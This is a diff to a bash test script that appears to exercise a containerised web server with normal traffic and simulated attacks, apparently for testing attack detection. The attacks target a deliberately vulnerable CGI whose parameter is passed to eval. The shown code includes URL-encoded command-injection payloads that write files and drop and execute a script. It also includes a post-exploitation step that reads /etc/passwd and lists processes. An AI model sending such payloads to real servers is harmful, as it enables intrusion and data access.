@@ -5,7 +5,7 @@
 # with query strings, POSTs that write to a data file, idle gaps and parallel clients.
 # Attacks through the vulnerable CGI /cgi-bin/files (its "dir" parameter goes through eval):
 # command injection writing a file, a dropped script run, a reverse shell to a listener the
-# test made; and a post-exploitation shell (runc exec).
+# test made; and a post-exploitation shell (runc exec, docker exec or lxc-attach).
 source "$(dirname "${BASH_SOURCE[0]}")/lib.sh"
 SRV_NAME=web
 need_cmd curl socat
@@ -116,17 +116,17 @@ SRV_ATTACKS="cmd_injection dropped_script reverse_shell post_shell"
 
 inject() { get "$(url "/cgi-bin/files?dir=$1")"; }
 srv_attack_cmd_injection() {
-	rm -f "$B/rootfs/tmp/injected"
+	rm -f "$ROOT/tmp/injected"
 	inject 'a%3Becho%20pwned%20%3E%2Ftmp%2Finjected'
 }
-srv_effect_cmd_injection() { [ -e "$B/rootfs/tmp/injected" ]; }
+srv_effect_cmd_injection() { [ -e "$ROOT/tmp/injected" ]; }
 
 srv_attack_dropped_script() {
-	rm -f "$B/rootfs/tmp/x.sh" "$B/rootfs/tmp/dropped-ran"
+	rm -f "$ROOT/tmp/x.sh" "$ROOT/tmp/dropped-ran"
 	# write a script, make it executable, run it: echo 'id>/tmp/dropped-ran'>/tmp/x.sh; ...
 	inject 'a%3Becho%20%27id%3E%2Ftmp%2Fdropped-ran%27%3E%2Ftmp%2Fx.sh%3Bchmod%20755%20%2Ftmp%2Fx.sh%3B%2Ftmp%2Fx.sh'
 }
-srv_effect_dropped_script() { grep -q 'uid=' "$B/rootfs/tmp/dropped-ran"; }
+srv_effect_dropped_script() { grep -q 'uid=' "$ROOT/tmp/dropped-ran"; }
 
 srv_attack_reverse_shell() {
 	rm -f "$TMP/rshell.out"
@@ -141,10 +141,10 @@ srv_attack_reverse_shell() {
 srv_effect_reverse_shell() { grep -q 'RSHELL-0' "$TMP/rshell.out"; }
 
 srv_attack_post_shell() {
-	rm -f "$B/rootfs/tmp/post-ok"
-	runc exec "$CNAME" /bin/sh -c 'sleep 1; id; cat /etc/passwd; ls -la /www; ps;
+	rm -f "$ROOT/tmp/post-ok"
+	ctr_exec /bin/sh -c 'sleep 1; id; cat /etc/passwd; ls -la /www; ps;
 		echo pwned > /tmp/post-ok'
 }
-srv_effect_post_shell() { [ -e "$B/rootfs/tmp/post-ok" ]; }
+srv_effect_post_shell() { [ -e "$ROOT/tmp/post-ok" ]; }
 
 [ "${BASH_SOURCE[0]}" = "$0" ] && srv_main
